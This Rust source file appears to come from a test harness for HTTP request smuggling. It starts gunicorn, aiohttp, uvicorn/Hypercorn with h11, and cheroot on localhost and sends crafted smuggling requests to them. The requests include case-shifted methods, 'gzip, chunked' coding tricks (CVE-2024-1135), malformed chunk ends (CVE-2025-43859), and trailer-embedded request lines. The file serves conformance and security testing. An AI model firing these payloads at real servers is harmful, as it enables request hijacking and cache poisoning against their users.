//! Python servers that read requests otherwise than RFC 9112 does: gunicorn 21.2, aiohttp 3.12.13 without its C extensions, h11
//! 0.14 under uvicorn and Hypercorn, cheroot.

use std::process::Command;

use super::neighbours::{Attack, Fault, Outcome, request, request_to, smuggled, smuggled_request};
use crate::process::{Process, Stop};
use crate::server::{Check, Server, file, port};
use crate::setup::{Needs, OLD_PYTHON, Setup};
use crate::wire::Endpoint;

/// All servers of this family.
pub(crate) fn servers() -> Vec<Server> {
    let server = |name, launch, attacks| Server::new(name, Needs::Python, launch, checks(attacks));
    vec![
        server("gunicorn_21", launch_gunicorn, gunicorn()),
        server("aiohttp_3_12", launch_aiohttp, aiohttp()),
        server("uvicorn_h11_0_14", launch_uvicorn, h11()),
        server("hypercorn_h11_0_14", launch_hypercorn, h11()),
        server("cheroot", launch_cheroot, cheroot()),
        // It leaves a chunked body that its application did not read to be read as the next request.
        Server {
            flags: &["--reuse-origin", "bodyless"],
            ..server("cheroot_bodyless", launch_cheroot, vec![unread(Fault::RefusesNeighbour)])
        },
    ]
}

fn checks(attacks: Vec<Attack>) -> Vec<(String, Check)> {
    attacks.into_iter().map(Attack::into_check).collect()
}

fn launch_gunicorn(setup: &Setup, at: &Endpoint) -> Result<Command, String> {
    let mut command = Process::command(setup.python_with(&OLD_PYTHON)?.join("gunicorn"), &Stop::Ask);
    let bind = format!("127.0.0.1:{}", port(at)?);
    command.current_dir(file("apps")).args(["seen_wsgi:app", "--bind", &bind, "--worker-class", "gthread"]);
    command.args(["--threads", "8", "--keep-alive", "30"]);
    Ok(command)
}

fn launch_aiohttp(setup: &Setup, at: &Endpoint) -> Result<Command, String> {
    let mut command = Process::command(setup.python_with(&OLD_PYTHON)?.join("python"), &Stop::Kill);
    command.arg(file("apps/seen_aiohttp.py")).arg(port(at)?).env("AIOHTTP_NO_EXTENSIONS", "1");
    Ok(command)
}

fn launch_uvicorn(setup: &Setup, at: &Endpoint) -> Result<Command, String> {
    let mut command = Process::command(setup.python_with(&OLD_PYTHON)?.join("uvicorn"), &Stop::Kill);
    command.current_dir(file("apps")).args(["seen_asgi:app", "--http", "h11", "--no-access-log", "--port", &port(at)?]);
    Ok(command)
}

fn launch_hypercorn(setup: &Setup, at: &Endpoint) -> Result<Command, String> {
    let mut command = Process::command(setup.python_with(&OLD_PYTHON)?.join("hypercorn"), &Stop::Ask);
    let bind = format!("127.0.0.1:{}", port(at)?);
    command.current_dir(file("apps")).args(["seen_asgi:app", "--bind", &bind, "--workers", "1"]);
    Ok(command)
}

fn launch_cheroot(setup: &Setup, at: &Endpoint) -> Result<Command, String> {
    let mut command = Process::command(setup.python_with(&OLD_PYTHON)?.join("python"), &Stop::Kill);
    command.arg(file("apps/seen_wsgi.py")).arg(port(at)?);
    Ok(command)
}

/// It reads a method as if its letters were capitals, and of `Transfer-Encoding` only the value that is `chunked` alone
/// (CVE-2024-1135).
fn gunicorn() -> Vec<Attack> {
    let odd_case = |mark: &str| request("HEAd", mark, "", "");
    // The line of the chunk is a request line to who takes no coding for granted; the chunk begins with its fields.
    let coded = |mark: &str| {
        let chunk = format!("Host: origin.test\r\n\r\n{}", smuggled_request(mark));
        let chunk = format!("{chunk}{}\r\n\r\n", "x".repeat(0xabc - chunk.len() - 4));
        let after = format!("ABC ;a=\"b HTTP/1.1\"\r\n{chunk}\r\n0\r\n\r\n");
        request("POST", mark, "Transfer-Encoding: gzip, chunked\r\n", &after)
    };
    vec![
        Attack::new("method_in_odd_case", "HEAd", odd_case, Fault::SendsNoBody, Outcome::Refused(400)),
        Attack::new("another_coding", "POST", coded, Fault::Smuggles, Outcome::Refused(501)),
    ]
}

/// Where a protocol is offered, it takes what comes behind the head for that protocol's, and once it has answered by HTTP for the next
/// request: a body is one or the other.
fn aiohttp() -> Vec<Attack> {
    fn head(method: &str, mark: &str, lines: &str) -> Vec<u8> {
        request(method, mark, &format!("{lines}Content-Length: {}\r\n", body(mark).len()), "")
    }
    fn body(mark: &str) -> Vec<u8> {
        smuggled_request(mark).into_bytes()
    }
    const WEBSOCKET: &str = "Connection: Upgrade\r\nUpgrade: websocket\r\n";
    const UNKNOWN: &str = "Connection: Upgrade\r\nUpgrade: tcp\r\n";
    let get = |mark: &str| head("GET", mark, "");
    let expecting = |mark: &str| head("POST", mark, "Expect: 100-continue\r\n");
    let get_offering = |mark: &str| head("GET", mark, WEBSOCKET);
    let post_offering = |mark: &str| head("POST", mark, WEBSOCKET);
    let offering_unknown = |mark: &str| head("POST", mark, UNKNOWN);
    let trailer =
        |mark: &str| request("POST", mark, "Transfer-Encoding: chunked\r\n", "1\r\na\r\n0\r\nX-Check: a\r\n\r\n");
    vec![
        Attack::new("body_of_a_get_left_unread", "GET", get, Fault::Takes, Outcome::Answered).then(body),
        Attack::new("expected_body_left_unread", "POST", expecting, Fault::Takes, Outcome::AnsweredLast).then(body),
        Attack::new("offer_with_a_get_and_a_body", "GET", get_offering, Fault::Smuggles, Outcome::Answered).then(body),
        Attack::new("offer_with_a_post", "POST", post_offering, Fault::Smuggles, Outcome::Answered).then(body),
        Attack::new("offer_that_is_withheld", "POST", offering_unknown, Fault::Smuggles, Outcome::Answered).then(body),
        Attack::new("trailer_line", "POST", trailer, Fault::Takes, Outcome::Refused(400)),
    ]
}

/// It takes an empty line for a request, and any two bytes for the end of a chunk (CVE-2025-43859).
fn h11() -> Vec<Attack> {
    let behind_a_body = |mark: &str| request("POST", mark, "Content-Length: 1\r\n", "a\r\n");
    let behind_a_get = |mark: &str| request("GET", mark, "", "\r\n");
    let chunk_end = |mark: &str| {
        let after = format!("5\r\naaaaaXX2\r\n45\r\n0\r\n\r\n{}", smuggled_request(mark));
        request("POST", mark, "Transfer-Encoding: chunked\r\n", &after)
    };
    vec![
        Attack::new("empty_line_behind_a_body", "POST", behind_a_body, Fault::RefusesNeighbour, Outcome::Answered),
        Attack::new("empty_line_behind_a_get", "GET", behind_a_get, Fault::RefusesNeighbour, Outcome::Answered),
        Attack::new("any_end_of_a_chunk", "POST", chunk_end, Fault::Smuggles, Outcome::Refused(400)),
    ]
}

/// It leaves the trailer section, of which the first line is the request line of the next.
fn cheroot() -> Vec<Attack> {
    vec![trailer_that_is_a_request()]
}

/// `X:POST` is a field to some, a method to others, and to a third the method POST behind two bytes that end the chunks.
pub(super) fn trailer_that_is_a_request() -> Attack {
    let bytes = |mark: &str| {
        let section = format!("X:POST {} HTTP/1.1\r\nHost: origin.test\r\nContent-Length: 0\r\n", smuggled(mark));
        request("POST", mark, "Transfer-Encoding: chunked\r\n", &format!("1\r\na\r\n0\r\n{section}\r\n"))
    };
    Attack::new("trailer_that_is_a_request", "POST", bytes, Fault::Smuggles, Outcome::Refused(400))
}

/// A chunked body that the application leaves unread.
fn unread(fault: Fault) -> Attack {
    let bytes =
        |mark: &str| request_to("unread", "POST", mark, "Transfer-Encoding: chunked\r\n", "1\r\na\r\n0\r\n\r\n");
    Attack::new("chunks_left_unread", "POST", bytes, fault, Outcome::Answered)
}
